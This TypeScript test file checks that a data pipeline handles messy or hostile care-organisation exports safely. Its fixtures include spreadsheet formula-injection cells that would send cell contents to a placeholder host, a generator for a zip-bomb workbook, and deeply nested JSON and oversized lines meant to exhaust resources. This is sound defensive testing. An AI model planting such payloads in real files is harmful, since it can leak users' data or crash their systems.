import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { constants, deflateRawSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import XLSX from 'xlsx';
import { type RunSummary, runPipeline } from '../../pipelines/run-pipeline.ts';
import { Warehouse } from '../../sql/warehouse.ts';
import { crlf, type TestProject, testProject } from '../helpers/project.ts';
import { encryptedWorkbook, sheet, workbookBytes } from '../sources/formats/xlsx/workbooks.ts';

// Issue 10: what organisations really deliver, through the real pipeline in one run. Each case is
// one file; for each, a message naming the file (and row and column), or the bad row in
// quarantine — and every good row of that file and of all the other files loaded, the run
// finished and published.
const yaml = `
privacy: { pseudonym_key_env: IMPACT_TEST_KEY, min_cell: 10 }
sources:
  - name: regicare
    location: { directory: exports }
    defaults:
      csv: { delimiter: ";", encoding: windows-1252, decimal: "," }
      date_format: dd-mm-jjjj
    resources:
      contacts:
        entity: contact
        files: "contacten_*.csv"
        columns: &contact
          source_contact_id: Contactnummer
          source_client_id: Cliëntnummer
          service_code: Werksoort
          contact_date: Datum
          duration_min: { column: "Duur (uren)", multiply: 60 }
          contact_type: Soort contact
      mixed:
        entity: contact
        files: "gemengd_*.csv"
        csv: { encoding: auto }
        columns: *contact
      webexport:
        entity: contact
        files: "contacten_*.json"
        columns:
          source_contact_id: nummer
          source_client_id: client.nummer
          service_code: werksoort
          contact_date: datum
          contact_type: soort
      sheets:
        entity: contact
        format: xlsx
        files: "werkblad_*"
        columns: *contact
      scores:
        entity: outcome_score
        files: "zrm_*.csv"
        columns:
          source_client_id: Cliëntnummer
          instrument: { value: zrm }
          domain: Domein
          measured_on: Datum
          score: Score
`;
const header = ['Contactnummer', 'Cliëntnummer', 'Werksoort', 'Datum', 'Duur (uren)', 'Soort contact'];
const H = header.join(';');
/** A good contact line; id doubles as client number, so every case's rows are its own. */
const row = (id: string, o: { date?: string; hours?: string; type?: string } = {}) =>
  [id, `C${id}`, 'SMW', o.date ?? '03-02-2025', o.hours ?? '1,5', o.type ?? 'gesprek'].join(';');
const bytes = (text: string, encoding: BufferEncoding = 'latin1') => Buffer.from(text, encoding);
const fiveMegabytes = Buffer.alloc(5 * 1024 * 1024, 'a'); // past DuckDB's 4 MB line limit

let p: TestProject;
let run: RunSummary;
let quarantine: { file: string; row: string; column: string; value: string | null; reason: string }[];
let loaded: { id: string; minutes: number | null; type: string | null }[];
let scores: { score: number }[];
let landedWithMark: { file: string; id: string }[];

beforeAll(async () => {
  p = testProject(yaml);
  const w = (name: string, content: string | Buffer) => p.write(`exports/${name}`, content);
  w('contacten_leeg.csv', '');
  w('contacten_alleen-kop.csv', crlf([H]));
  w('contacten_komma.csv', crlf([H.replaceAll(';', ','), row('W1').replaceAll(';', ',')]));
  w(
    'contacten_datums.csv',
    crlf([
      H,
      row('D1'),
      row('D2', { date: '00-00-0000' }),
      row('D3', { date: '31-02-2024' }),
      row('D4', { date: '03-02-2062' }),
      row('D5'),
    ]),
  );
  w(
    'contacten_getallen.csv',
    crlf([
      H,
      row('N1', { hours: '1.234,5' }),
      row('N2', { hours: '1,234.5' }),
      row('N3', { hours: '1.5' }),
      row('N4', { hours: '€ 2,5' }),
    ]),
  );
  w('contacten_negatief.csv', crlf([H, row('M1', { hours: '-2' }), row('M2')]));
  w(
    'contacten_dubbel.csv',
    crlf([H, row('U1'), row('U1'), row('U2'), row('U2', { date: '04-02-2025' }), row('U3')]),
  );
  w(
    'contacten_formule.csv',
    crlf([
      H,
      row('F1', { type: '"=HYPERLINK(""https://x.invalid/?a=""&A1;""klik"")"' }),
      row('F2', { type: '@SUM(1+1)' }),
    ]),
  );
  w(
    'contacten_lange-regel.csv',
    Buffer.concat([bytes(crlf([H, row('L1')])), fiveMegabytes, bytes(`\r\n${crlf([row('L2')])}`)]),
  );
  w('contacten_een-regel.csv', fiveMegabytes);
  w('contacten_open-quote.csv', crlf([H, row('Q1'), row('Q2', { type: '"gesprek' }), row('Q3'), row('Q4')]));
  w(
    'contacten_open-quote-notitie.csv',
    crlf([
      H,
      row('R1'),
      row('R2', { type: '"gesprek\r\nmet ""notitie"""' }),
      row('R3', { type: '"gesprek' }),
      row('R4'),
    ]),
  );
  w(
    'contacten_bom.csv',
    Buffer.concat([bytes(crlf([H, row('B1')])), Buffer.from([0xef, 0xbb, 0xbf]), bytes(crlf([row('B2')]))]),
  );
  w(
    'gemengd_1.csv',
    Buffer.concat([
      bytes(crlf([H, row('E1', { type: 'café' })]), 'utf8'),
      bytes(crlf([row('E2', { type: 'café' })])),
    ]),
  );
  w(
    'gemengd_bom.csv',
    Buffer.concat([
      bytes(`\ufeff${crlf([H, row('V1', { type: 'café' })])}`, 'utf8'),
      bytes(`\ufeff${crlf([row('V2')])}`, 'utf8'),
    ]),
  );
  w(
    'zrm_scores.csv',
    crlf([
      'Cliëntnummer;Domein;Datum;Score',
      'CS1;Financiën;03-02-2025;3',
      'CS2;Financiën;03-02-2025;7',
      'CS3;Financiën;03-02-2025;drie',
    ]),
  );
  const record = (id: string, extra: object = {}) => ({
    nummer: id,
    client: { nummer: `C${id}` },
    werksoort: 'SMW',
    datum: '03-02-2025',
    soort: 'gesprek',
    ...extra,
  });
  const nested = (depth: number): unknown => (depth === 0 ? 'bodem' : { laag: nested(depth - 1) });
  w('contacten_goed.json', JSON.stringify([record('J1'), record('J2', { bijlage: nested(40) })]));
  w(
    'contacten_diep.json',
    `[${JSON.stringify(record('J9')).slice(0, -1)}, "bijlage": ${'['.repeat(10_000)}${']'.repeat(10_000)}}]`,
  );
  w(
    'werkblad_formule.xlsx',
    workbookBytes({
      S: sheet([
        header,
        ['X1', 'CX1', 'SMW', '03-02-2025', 1, '=HYPERLINK("https://x.invalid")'],
        [
          'X2',
          'CX2',
          'SMW',
          '03-02-2025',
          1,
          { t: 's', v: 'klik', f: 'HYPERLINK("https://x.invalid";"klik")' },
        ],
      ]),
    }),
  );
  w(
    'werkblad_macro.xlsm',
    workbookBytes({ S: sheet([header, ['X3', 'CX3', 'SMW', '03-02-2025', 1, 'x']]) }, 'xlsm'),
  );
  w('werkblad_wachtwoord.xlsx', encryptedWorkbook());
  w('werkblad_pdf.xlsx', bytes('%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n'));
  w('werkblad_bom.xlsx', zipBomb(2100));
  run = await runPipeline(p.config, { trigger: 'test' });
  const wh = await Warehouse.open({ path: p.config.warehouse.path, readOnly: true });
  quarantine = await wh.json(
    `SELECT file, row, "column", value, reason FROM staging.quarantine ORDER BY file, row::INT`,
  );
  loaded = await wh.json(
    'SELECT source_contact_id AS id, duration_min AS minutes, contact_type AS type FROM fct_contact ORDER BY 1',
  );
  scores = await wh.json<{ score: number }>('SELECT score FROM fct_outcome_score');
  landedWithMark = await wh.json(
    `SELECT _file AS file, source_contact_id AS id FROM land.contact WHERE contains(source_contact_id, chr(65279))`,
  );
  await wh.close();
}, 120_000);
afterAll(() => p.remove());

/**
 * A real workbook whose sheet inflates to `mib` MiB while the file stays small and the zip
 * claims 1 KB: 1 MiB of blanks deflated once and repeated (a full flush makes the blocks
 * independent), the workbook's other parts stored as they are.
 */
function zipBomb(mib: number): Buffer {
  const block = deflateRawSync(Buffer.alloc(1 << 20, ' '), { finishFlush: constants.Z_FULL_FLUSH });
  const bomb = Buffer.concat([...Array<Buffer>(mib).fill(block), Buffer.from([0x03, 0x00])]);
  const book = XLSX.CFB.read(workbookBytes({ S: sheet([header]) }), { type: 'buffer' });
  const parts = book.FullPaths.map((path: string, i: number) => ({
    path: path.replace(/^Root Entry\//, ''),
    entry: book.FileIndex[i]!,
  }))
    .filter((p: { entry: { type: number } }) => p.entry.type === 2)
    .map(({ path, entry }: { path: string; entry: { content: unknown } }) =>
      path === 'xl/worksheets/sheet1.xml'
        ? { name: Buffer.from(path), data: bomb, method: 8 }
        : { name: Buffer.from(path), data: Buffer.from(entry.content as Uint8Array), method: 0 },
    );
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const { name, data, method } of parts) {
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(method ? 1000 : data.length, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(method ? 1000 : data.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, data);
    centrals.push(central, name);
    offset += 30 + name.length + data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const file = (name: string) => run.files.find((f) => f.file === name)!;
const rejected = (name: string) =>
  quarantine.filter((q) => q.file === name).map((q) => `${q.row} ${q.column}: ${q.reason}`);
const ids = (prefix: string) =>
  loaded.filter((c) => c.id.replace(/^\W+/, '').startsWith(prefix)).map((c) => c.id);

describe('a run over a delivery full of bad input', () => {
  it('finishes, publishes what is good, and says the run failed because of the unreadable files', () => {
    expect(run.status).toBe('failed');
    expect(run.error).toMatch(/file\(s\) could not be loaded/);
    expect(JSON.parse(readFileSync(join(p.config.publish.dir, 'manifest.json'), 'utf8')).load_id).toBe(
      run.runId,
    );
  });
});

describe('files that cannot be read at all are named with the reason, and nothing else suffers', () => {
  it.each([
    ['contacten_leeg.csv', 'regicare · contacten_leeg.csv: no header row found; the file seems empty.'],
    [
      'contacten_komma.csv',
      "contacten_komma.csv: column 'Contactnummer', 'Cliëntnummer', 'Werksoort', 'Datum', 'Duur (uren)', 'Soort contact' not found. The header (line 1) has: Contactnummer,Cliëntnummer,Werksoort,Datum,Duur (uren),Soort…",
    ],
    ['werkblad_wachtwoord.xlsx', 'The workbook is protected with a password, so it cannot be read.'],
    ['werkblad_pdf.xlsx', 'The file is not an Excel workbook (it is a PDF document).'],
    ['werkblad_bom.xlsx', 'The workbook unpacks to more than the limit of 2.0 GiB; it was not opened.'],
  ])('%s', (name, message) => {
    expect(file(name)).toMatchObject({ status: 'failed', rowsReceived: 0 });
    expect(file(name).error).toContain(name);
    expect(file(name).error).toContain(message);
  });

  it('JSON nested 10,000 levels deep, naming the record and line; records nested 40 deep in another file load', () => {
    expect(file('contacten_diep.json')).toMatchObject({ status: 'failed', rowsReceived: 0 });
    expect(file('contacten_diep.json').error).toMatch(
      /contacten_diep\.json: the JSON nests more than 64 levels deep \(record 1, line 1\)/,
    );
    expect(file('contacten_goed.json')).toMatchObject({ status: 'loaded', rowsReceived: 2 });
    expect(ids('J')).toEqual(['J1', 'J2']);
  });

  it('a file of one 5 MB line, with a message of reasonable length', () => {
    expect(file('contacten_een-regel.csv')).toMatchObject({ status: 'failed' });
    expect(file('contacten_een-regel.csv').error).toMatch(/column 'Contactnummer'.* not found/);
    expect(file('contacten_een-regel.csv').error!.length).toBeLessThan(500);
  });
});

describe('bad rows go to quarantine with row and column; the good rows of the file load', () => {
  it('a header without rows: loaded, nothing received', () => {
    expect(file('contacten_alleen-kop.csv')).toMatchObject({
      status: 'loaded',
      rowsReceived: 0,
      rowsRejected: 0,
    });
  });

  it('dates that do not exist (00-00-0000, 31-02-2024) and dates in the future', () => {
    expect(rejected('contacten_datums.csv')).toEqual([
      '3 Datum: not a date (expected dd-mm-jjjj)',
      '4 Datum: not a date (expected dd-mm-jjjj)',
      '5 Datum: date lies in the future',
    ]);
    expect(ids('D')).toEqual(['D1', 'D5']);
  });

  it('thousands separators: Dutch ones read, the wrong way round or ambiguous ones dropped, not guessed', () => {
    expect(rejected('contacten_getallen.csv')).toEqual([
      '3 Duur (uren): not a number',
      '4 Duur (uren): not a number',
    ]);
    expect(loaded.filter((c) => c.id.startsWith('N'))).toEqual([
      { id: 'N1', minutes: 74_070, type: 'gesprek' },
      { id: 'N2', minutes: null, type: 'gesprek' },
      { id: 'N3', minutes: null, type: 'gesprek' },
      { id: 'N4', minutes: 150, type: 'gesprek' },
    ]);
  });

  it('a negative duration drops the duration, the contact still counts', () => {
    expect(rejected('contacten_negatief.csv')).toEqual(['2 Duur (uren): negative duration']);
    expect(ids('M')).toEqual(['M1', 'M2']);
  });

  it('duplicate keys: an exact copy is dropped, copies that disagree are all quarantined', () => {
    expect(rejected('contacten_dubbel.csv')).toEqual([
      '4 Contactnummer: conflicting duplicate: this contact number appears 2 times in the file with different values',
      '5 Contactnummer: conflicting duplicate: this contact number appears 2 times in the file with different values',
    ]);
    expect(ids('U')).toEqual(['U1', 'U3']);
  });

  it('a line of 5 MB is rejected on its own; the lines around it load', () => {
    expect(rejected('contacten_lange-regel.csv')).toEqual([
      '3 (whole line): line could not be read: the line is longer than 4 MB',
    ]);
    expect(ids('L')).toEqual(['L1', 'L2']);
  });

  it('scores outside the scale or not a number are quarantined, the valid score loads', () => {
    expect(rejected('zrm_scores.csv')).toHaveLength(2);
    for (const r of rejected('zrm_scores.csv')) expect(r).toMatch(/^[34] Score: /);
    expect(scores).toEqual([{ score: 3 }]);
  });
});

describe('formula cells stay text and are never evaluated', () => {
  it('from CSV', () => {
    expect(loaded.filter((c) => c.id.startsWith('F')).map((c) => c.type)).toEqual([
      '=HYPERLINK("https://x.invalid/?a="&A1;"klik")',
      '@SUM(1+1)',
    ]);
  });

  it('from a workbook: formula text as text, a formula as the value Excel last calculated', () => {
    expect(loaded.filter((c) => c.id === 'X1' || c.id === 'X2').map((c) => c.type)).toEqual([
      '=HYPERLINK("https://x.invalid")',
      'klik',
    ]);
  });

  it('from a macro workbook (.xlsm): its rows, no macro run', () => {
    expect(file('werkblad_macro.xlsm')).toMatchObject({ status: 'loaded', rowsReceived: 1 });
    expect(ids('X3')).toEqual(['X3']);
  });
});

describe('lines spoilt by pasting and editing cost only themselves', () => {
  it('an unterminated quote rejects its own line only; the lines after it load', () => {
    expect(rejected('contacten_open-quote.csv')).toEqual([
      '3 Soort contact: line could not be read: a quote that opens this field is never closed (the lines after it were read)',
    ]);
    expect(ids('Q')).toEqual(['Q1', 'Q3', 'Q4']);
  });

  it('also in a file whose notes hold line breaks (read serially by DuckDB), with the line an editor shows', () => {
    expect(rejected('contacten_open-quote-notitie.csv')).toEqual([
      '5 Soort contact: line could not be read: a quote that opens this field is never closed (the lines after it were read)',
    ]);
    expect(loaded.filter((c) => c.id.startsWith('R')).map((c) => [c.id, c.type])).toEqual([
      ['R1', 'gesprek'],
      ['R2', 'gesprek\r\nmet "notitie"'],
      ['R4', 'gesprek'],
    ]);
  });

  it('a byte-order mark in the middle of a file does not become part of a contact number', () => {
    expect(ids('B')).toEqual(['B1', 'B2']);
    expect(landedWithMark).toEqual([]);
    expect(loaded.filter((c) => c.id.startsWith('V')).map((c) => [c.id, c.type])).toEqual([
      ['V1', 'café'],
      ['V2', 'gesprek'],
    ]);
  });

  it('a file with UTF-8 and Windows-1252 lines (encoding: auto) reads each line in its own encoding', () => {
    expect(loaded.filter((c) => c.id.startsWith('E')).map((c) => c.type)).toEqual(['café', 'café']);
  });
});
